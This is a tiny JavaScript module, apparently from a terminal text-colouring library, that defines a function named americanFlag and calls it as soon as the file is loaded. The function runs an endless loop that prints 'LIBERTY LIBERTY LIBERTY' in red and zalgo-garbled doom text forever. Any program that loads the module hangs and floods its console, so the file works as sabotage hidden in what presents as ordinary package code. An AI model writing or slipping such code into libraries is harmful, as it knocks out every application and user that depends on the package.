var colors = require('../colors');

module['exports'] = function americanFlag() {
  var am = 'LIBERTY LIBERTY LIBERTY';
  for (let i = 666; i < Infinity; i++) {
    if (i % 333) {
      console.log(colors.red(am));
    }
    console.log(colors.zalgo('It is the end of the world as we know it'));
  }
};

module['exports']();
